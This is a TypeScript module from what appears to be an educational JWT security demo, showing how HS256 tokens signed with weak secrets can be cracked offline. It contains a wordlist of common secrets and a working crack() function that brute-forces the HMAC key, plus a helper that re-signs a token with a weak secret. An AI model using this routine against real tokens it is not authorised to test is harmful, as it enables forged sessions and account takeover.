// The weak-secret demo: an HS256 token is a free offline guessing game. Anyone
// holding one can try candidate secrets until an HMAC matches, with no server
// involved. A word a human chose falls to a short list; 32 random bytes do not.
import { hmac } from './attacks';
import { decodeJson, encodeJson } from './base64url';

export const WEAK_SECRET = 'secret123';

/** A short list of secrets people really use, in the spirit of the public JWT wordlists. */
export const WORDLIST: readonly string[] = [
  'secret', 'password', '123456', 'changeme', 'jwt', 'jwtsecret', 'jwt-secret', 'your-256-bit-secret', 'mysecret', 'secretkey',
  'secret-key', 'supersecret', 'letmein', 'qwerty', 'admin', 'test', 'dev', 'default', 'key', 'private',
  's3cr3t', 'password1', 'hunter2', 'shhhhh', 'token', 'auth', 'session', 'example', 'abc123', 'iloveyou',
  'welcome', 'monkey', 'dragon', 'master', 'sunshine', 'trustno1', 'hello', 'node', 'express', 'nextjs',
  WEAK_SECRET, 'secret1234', 'topsecret', 'passw0rd', 'Password1',
];

export interface CrackResult {
  /** The secret that made the HMAC match, if one did. */
  found: string | null;
  tried: number;
  ms: number;
}

/** Tries every word as the HS256 secret of `token`; stops at the first match. */
export async function crack(token: string, words: readonly string[] = WORDLIST, clock: () => number = () => performance.now()): Promise<CrackResult> {
  const [header = '', payload = '', signature = ''] = token.split('.');
  const input = `${header}.${payload}`;
  const started = clock();
  let tried = 0;
  for (const word of words) {
    tried += 1;
    if ((await hmac(new TextEncoder().encode(word), input)) === signature) return { found: word, tried, ms: clock() - started };
  }
  return { found: null, tried, ms: clock() - started };
}

/** The reader's access token, header and payload kept, signed again with the weak secret: what a careless server would issue. */
export async function weakToken(access: string): Promise<string> {
  const [header = '', payload = ''] = access.split('.');
  const input = `${encodeJson({ ...(decodeJson(header) ?? {}), alg: 'HS256' })}.${payload}`;
  return `${input}.${await hmac(new TextEncoder().encode(WEAK_SECRET), input)}`;
}
